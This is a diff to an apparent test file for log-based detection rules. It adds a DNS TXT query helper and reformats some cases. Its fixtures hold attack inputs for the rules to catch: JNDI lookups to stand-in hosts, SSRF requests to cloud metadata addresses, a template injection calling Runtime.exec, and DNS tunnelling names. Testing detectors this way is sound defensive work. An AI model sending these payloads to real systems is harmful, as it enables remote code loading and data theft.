@@ -93,6 +93,10 @@ const dns = (name, fields = {}) =>
     ...fields,
   });
 
+/** A query for a TXT record of a zone behind Cloudflare. */
+const zone = (dataset, name) =>
+  record(dataset, { QueryName: name, QueryType: 16, SourceIP: "198.51.100.53", Timestamp: "2026-10-04T08:15:30Z" });
+
 const txt = { QueryType: 16, QueryTypeName: "TXT" };
 
 const audit = (fields) =>
@@ -192,8 +196,8 @@ const CASES = {
     fires: [
       [dns(`${LONG}.t.example.com`, txt)],
       [dns(`a.${LONG.toUpperCase()}.t.example.com`, txt)],
-      [record("dns_logs", { QueryName: `${LONG}.example.com`, QueryType: 16, Timestamp: "2026-10-04T08:15:30Z" })],
-      [record("dns_firewall_logs", { QueryName: `${LONG}.example.com`, QueryType: 16, Timestamp: "2026-10-04T08:15:30Z" })],
+      [zone("dns_logs", `${LONG}.example.com`)],
+      [zone("dns_firewall_logs", `${LONG}.example.com`)],
     ],
     silent: [
       [dns("www.example.com", txt)],
@@ -245,7 +249,11 @@ const CASES = {
       [web("/", { ClientRequestReferer: "${jndi:dns://evil.example}" })],
       [firewall("/", "", { ClientRequestUserAgent: "${jndi:ldap://203.0.113.9/a}" })],
     ],
-    silent: [[web("/?price=$%7B12%7D")], [web("/docs/jndi?q=ldap")], [web("/", { ClientRequestReferer: "https://a.example/jndi" })]],
+    silent: [
+      [web("/?price=$%7B12%7D")],
+      [web("/docs/jndi?q=ldap")],
+      [web("/", { ClientRequestReferer: "https://a.example/jndi" })],
+    ],
   },
   web_login_brute_force: {
     fires: [refused(10, 20), [...refused(3, 200), ...refused(12, 1)]],
@@ -309,7 +317,11 @@ const CASES = {
       [web("/fetch?url=http%3A%2F%2FMetadata.Google.Internal%2F")],
       [firewall("/fetch", "?url=http://[fd00:ec2::254]/")],
     ],
-    silent: [[web("/fetch?url=https://www.example.com/")], [web("/docs?page=169-254-169-254")], [web("/fetch?build=169.254.169.25")]],
+    silent: [
+      [web("/fetch?url=https://www.example.com/")],
+      [web("/docs?page=169-254-169-254")],
+      [web("/fetch?build=169.254.169.25")],
+    ],
   },
   web_template_injection: {
     fires: [
@@ -318,7 +330,11 @@ const CASES = {
       [web("/", { ClientRequestUserAgent: "${T(java.lang.Runtime).getRuntime().exec('id')}" })],
       [firewall("/", "", { ClientRequestUserAgent: "__class__.__mro__" })],
     ],
-    silent: [[web("/hello?name={{configuration}}")], [web("/?q=java.lang.Runtime")], [web("/", { ClientRequestReferer: "https://a.example/49" })]],
+    silent: [
+      [web("/hello?name={{configuration}}")],
+      [web("/?q=java.lang.Runtime")],
+      [web("/", { ClientRequestReferer: "https://a.example/49" })],
+    ],
   },
 };
 
